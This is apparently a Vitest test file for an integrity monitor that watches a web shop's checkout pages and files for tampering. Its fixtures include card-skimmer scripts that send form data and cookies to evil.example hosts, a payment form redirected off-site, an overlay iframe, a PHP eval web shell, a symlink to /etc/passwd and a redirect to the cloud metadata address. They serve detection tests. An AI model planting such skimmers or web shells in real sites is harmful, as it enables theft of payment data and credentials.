import { mkdtempSync } from 'node:fs';
import { mkdir, rm, symlink, utimes, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { manualClock } from '../../devices/model/clock.ts';
import { type Observation, observation } from '../../devices/model/observation.ts';
import { registryDocument, registryOf } from '../../devices/model/registry.ts';
import { Monitors } from '../monitors/monitors.ts';
import { integritySettings } from './configuration.ts';
import { fetchPage, isInside } from './fetch-page.ts';
import { integrityMonitors } from './rules/catalog.ts';
import { APP_SCRIPT, ShopRig, type Tampering } from './shop-rig.ts';
import { IntegrityWatch } from './watch.ts';

const registry = registryOf(
  registryDocument.parse({
    sites: [{ id: 'online', name: 'Web shop', timeZone: 'UTC' }],
    assets: [{ id: 'web-shop', kind: 'shop', name: 'Web shop', site: 'online' }],
  }),
);
const START = Date.UTC(2026, 10, 23, 8);
const never = new AbortController().signal;

let shop: ShopRig;
let folder: string;
let clock: ReturnType<typeof manualClock>;
let seen: Observation[];
beforeEach(async () => {
  shop = await new ShopRig().open();
  folder = mkdtempSync(join(tmpdir(), 'gatehouse-integrity-'));
  clock = manualClock(START);
  seen = [];
});
afterEach(async () => {
  await shop.close();
  await rm(folder, { recursive: true });
});

const watchOf = (over: object = {}) =>
  new IntegrityWatch({
    settings: integritySettings.parse({
      asset: 'web-shop',
      pages: [{ url: `${shop.origin}/checkout`, payment: true }, { url: `${shop.origin}/` }],
      allowPrivate: true,
      timeoutMs: 5_000,
      learnFetches: 5,
      ...over,
    }),
    registry,
    clock,
    file: join(folder, 'integrity.json'),
    resolve: (path) => path,
    async commit(observations) {
      seen.push(...observations.map((one) => observation.parse(one)));
    },
    onTrouble: (trouble) => {
      throw new Error(trouble);
    },
  });

async function look(watch: IntegrityWatch, times = 1): Promise<void> {
  for (let time = 0; time < times; time++) {
    clock.advance(60_000);
    await watch.lookAtPages(never);
  }
}

/** A watch that has learned the shop as it is; what it said then is forgotten. */
async function learnt(over: object = {}): Promise<IntegrityWatch> {
  const watch = watchOf(over);
  await look(watch, 5);
  expect(seen.map(({ kind, facts }) => `${kind} ${facts?.change}`)).toEqual([
    'page.fetched learned',
    'page.fetched learned',
  ]);
  seen = [];
  return watch;
}

const judged = () =>
  new Monitors(registry, {}, integrityMonitors)
    .observe(seen)
    .put.map(({ rule, severity }) => `${rule} ${severity}`)
    .sort();

test('nonces, prices, carts, visitors and offers are no change over many fetches', async () => {
  const watch = await learnt();
  await look(watch, 40);
  expect(seen).toEqual([]);
  expect(watch.findings()).toEqual([]);
  expect(watch.health().pages.map(({ state }) => state)).toEqual(['watched', 'watched']);
});

const attacks: [string, Tampering, string[]][] = [
  [
    'a skimmer from elsewhere',
    { body: '<script src="https://cdn.evil.example/j.js"></script>' },
    ['integrity-new-script critical'],
  ],
  [
    'a skimmer written into the page',
    {
      body: '<script>document.forms[0].addEventListener("submit",e=>navigator.sendBeacon("https://collect.evil.example/c",new FormData(e.target)))</script>',
    },
    ['integrity-new-script critical'],
  ],
  [
    'a skimmer in the attribute of a picture',
    { body: '<img src=x onerror="import(\'//evil.example/s\')">' },
    ['integrity-new-script critical'],
  ],
  [
    'a skimmer at the end of the shop’s own script',
    {
      appScript: `${APP_SCRIPT}\nfetch("https://collect.evil.example/",{method:"POST",body:document.cookie});`,
    },
    ['integrity-script-changed critical'],
  ],
  [
    'the shop’s own script changed on all pages, to nobody’s knowledge',
    { appScript: APP_SCRIPT.replace('preventDefault', 'stopPropagation') },
    ['integrity-script-changed low'],
  ],
  [
    'a payment form that goes elsewhere',
    { formAction: 'https://evil.example/pay' },
    ['integrity-form-target critical'],
  ],
  [
    'a frame over the payment form',
    { body: '<iframe style="position: fixed; z-index: 9" src="https://pay.evil.example/f"></iframe>' },
    ['integrity-payment-frame critical'],
  ],
  ['the policy is gone', { policy: null }, ['page-policy-weakened medium']],
  [
    'the policy lets any script in',
    {
      policy:
        "default-src 'self'; script-src * 'unsafe-inline'; form-action 'self'; frame-src https://pay.example",
    },
    ['page-policy-weakened medium'],
  ],
  ['the hash of a script is no longer stated', { withoutIntegrity: true }, ['page-policy-weakened medium']],
  [
    'a defaced page',
    {
      page: '<html><head><title>0wned</title></head><body><h1>Hacked by nobody</h1></body></html>',
      policy: "default-src 'self'; form-action 'self'; frame-src 'none'",
    },
    ['integrity-defaced high'],
  ],
];

test.each(attacks)('%s', async (_, tampering, expected) => {
  const watch = await learnt();
  shop.tampering = tampering;
  await look(watch);
  expect(judged()).toEqual(expected);
  // It is told once, and stays open.
  const told = seen.length;
  await look(watch, 3);
  expect(seen).toHaveLength(told);
  expect(watch.findings().length).toBeGreaterThan(0);
  expect(watch.findings().every(({ isThere }) => isThere)).toBe(true);
});

test('what is accepted belongs to the page; the next stranger does not; a restart forgets nothing', async () => {
  const first = await learnt();
  shop.tampering = { body: '<script src="https://chat.example/widget.js"></script>' };
  await look(first);
  for (const { id } of first.findings()) await first.accept(id);
  expect(first.findings()).toEqual([]);
  const second = watchOf();
  seen = [];
  await look(second, 3);
  expect(seen).toEqual([]);
  shop.tampering = { body: '<script src="https://cdn.evil.example/j.js"></script>' };
  await look(second);
  expect(judged()).toEqual(['integrity-new-script critical']);
  await expect(second.accept('nothing')).rejects.toThrow(RangeError);
  await look(watchOf());
  expect(judged()).toEqual(['integrity-new-script critical']);
});

test('an announced deployment may change the shop’s own script, and lets nobody else in', async () => {
  const watch = await learnt();
  await watch.announce({ from: clock.now(), to: clock.now() + 3_600_000, by: 'tests' });
  shop.tampering = {
    appScript: `${APP_SCRIPT}\nconsole.log("new");`,
    body: '<script src="https://cdn.evil.example/j.js"></script>',
  };
  await look(watch);
  expect(seen.filter(({ facts }) => facts?.announced === true).map(({ kind }) => kind)).toEqual([
    'script.changed',
    'script.changed',
  ]);
  expect(judged()).toEqual(['integrity-new-script critical']);
});

test('a report of the deployment with the content’s hash closes what was open and takes the detection back', async () => {
  const watch = await learnt();
  shop.tampering = { appScript: `${APP_SCRIPT}\nconsole.log("new");` };
  await look(watch);
  const monitors = new Monitors(registry, {}, integrityMonitors);
  const [told] = monitors.observe(seen).put;
  const report = observation.parse({
    ...seen[0],
    id: 'cloud-deploy/epoch000/1',
    kind: 'file.changed',
    source: 'integrity-report:deploy',
    observedAt: clock.now() + 60_000,
    facts: { file: '/assets/app.js', change: 'updated', expected: true },
  });
  watch.heard([report]);
  await look(watch);
  expect(watch.findings()).toEqual([]);
  expect(monitors.observe([report])).toEqual({ put: [], withdraw: [told?.id] });
});

test('a shop that is down is told once, and when it is back', async () => {
  const watch = await learnt();
  shop.tampering = { status: 503 };
  await look(watch, 6);
  shop.tampering = { page: '<html><title>Back soon</title><body>Back soon</body></html>' };
  await look(watch, 3);
  shop.tampering = {};
  await look(watch, 3);
  expect(
    seen.map(({ kind, facts }) => `${kind} ${facts?.page === `${shop.origin}/` ? 'front' : 'checkout'}`),
  ).toEqual([
    'page.unreachable checkout',
    'page.unreachable front',
    'page.fetched checkout',
    'page.fetched front',
  ]);
  expect(judged()).toEqual([]);
});

describe('what is fetched', () => {
  const options = () => ({
    hosts: [new URL(shop.origin).host],
    allowsPrivate: true,
    timeoutMs: 2_000,
    maxBytes: 100_000,
    userAgent: 'tests',
    signal: never,
  });

  test('hosts that were not configured are not asked, not by a redirect either', async () => {
    await expect(fetchPage('http://localhost:1/', options())).rejects.toThrow(
      'not one of the configured hosts',
    );
    shop.tampering = { redirect: 'http://169.254.169.254/latest/meta-data' };
    await expect(fetchPage(`${shop.origin}/`, options())).rejects.toThrow('not one of the configured hosts');
  });

  test('addresses inside the network are refused where that was not allowed, by name as well', async () => {
    await expect(fetchPage(`${shop.origin}/`, { ...options(), allowsPrivate: false })).rejects.toThrow(
      'inside the network',
    );
    const named = shop.origin.replace('127.0.0.1', 'localhost');
    await expect(
      fetchPage(named, { ...options(), hosts: [new URL(named).host], allowsPrivate: false }),
    ).rejects.toThrow('inside the network');
    expect(
      ['10.1.2.3', '172.20.0.1', '::1', 'fd00::1', '::ffff:127.0.0.1', '100.64.0.1'].map(isInside),
    ).not.toContain(false);
    expect(['93.184.216.34', '2606:2800:220:1::1'].map(isInside)).not.toContain(true);
  });

  test('a circle of redirects and a page without end are given up', async () => {
    shop.tampering = { redirect: '/again' };
    await expect(fetchPage(`${shop.origin}/`, options())).rejects.toThrow('redirects');
    shop.tampering = { page: 'x'.repeat(200_000) };
    await expect(fetchPage(`${shop.origin}/`, options())).rejects.toThrow('larger than 100000 bytes');
  });
});

test('files: changed with the old time of change, new, gone and linked elsewhere are told; ignored ones are not', async () => {
  const root = join(folder, 'www');
  await mkdir(join(root, 'cache'), { recursive: true });
  const write = (name: string, text: string) => writeFile(join(root, name), text);
  await write('index.php', '<?php echo 1;');
  await write('gone.css', 'a{}');
  await write('cache/page', '1');
  await symlink('/etc/hostname', join(root, 'link'));
  const watch = watchOf({ files: [{ path: root, ignore: ['cache', '*.log'] }] });
  await watch.lookAtFiles(never);
  await watch.lookAtFiles(never);
  expect(seen).toEqual([]);
  expect(watch.health().folders).toEqual([{ path: root, files: 3, open: 0, unreadable: 0, isCut: false }]);
  await write('index.php', '<?php echo 2;');
  await utimes(join(root, 'index.php'), 0, 0);
  await rm(join(root, 'gone.css'));
  await rm(join(root, 'link'));
  await symlink('/etc/passwd', join(root, 'link'));
  await write('shell.php', '<?php eval($_POST["x"]);');
  await write('cache/page', '2');
  await write('today.log', 'x');
  clock.advance(60_000);
  await watch.lookAtFiles(never);
  expect(seen.map(({ facts }) => `${String(facts?.file).split('/').at(-1)} ${facts?.change}`)).toEqual([
    'gone.css deleted',
    'index.php updated',
    'link updated',
    'shell.php created',
  ]);
  expect(judged()).toEqual(['integrity-file-changed high']);
  const told = seen.length;
  await watch.lookAtFiles(never);
  expect(seen).toHaveLength(told);
  for (const { id } of watch.findings()) await watch.accept(id);
  await watch.lookAtFiles(never);
  expect(seen).toHaveLength(told);
});
